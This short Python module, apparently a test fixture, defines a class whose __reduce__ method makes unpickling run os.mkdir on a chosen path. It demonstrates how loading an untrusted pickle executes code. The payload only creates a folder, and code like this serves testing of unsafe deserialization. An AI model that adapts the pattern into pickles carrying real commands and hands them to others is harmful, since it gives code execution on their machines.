"""A pickle that makes a folder when it is read without care."""

import os
from pathlib import Path


class Bomb:
    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.target),)
